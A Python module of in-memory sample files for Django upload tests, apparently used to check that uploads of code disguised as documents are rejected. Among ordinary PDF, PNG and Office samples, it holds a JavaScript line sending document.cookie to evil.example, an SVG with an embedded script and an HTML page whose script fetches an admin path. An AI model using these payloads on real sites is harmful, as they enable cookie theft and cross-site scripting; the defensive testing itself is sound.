"""Small sample files for upload tests: real formats built in memory, and code dressed up as documents."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6300010000050001"
    "0d0a2db40000000049454e44ae426082"
)
HTML = b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>"
JS = b"document.location='https://evil.example/?c='+document.cookie;"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'


# Zip entries carry a timestamp; a fixed one keeps every sample byte-identical between runs (and
# between xdist workers, which must collect the same parametrised tests).
_ZIP_TIME = (2020, 1, 1, 0, 0, 0)


class _ZipFile(zipfile.ZipFile):
    def writestr(self, name, data, *args, **kwargs):
        info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, date_time=_ZIP_TIME)
        return super().writestr(info, data, *args, **kwargs)


def docx() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def docm() -> bytes:
    """A Word document with macros: a zip, like docx, but another main part."""
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        )
        archive.writestr("word/vbaProject.bin", b"\x00" * 16)
    return buffer.getvalue()


def odt() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with _ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", HTML)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """As a browser sends it: the content type is whatever the sender claims."""
    return SimpleUploadedFile(name, content, content_type=content_type)
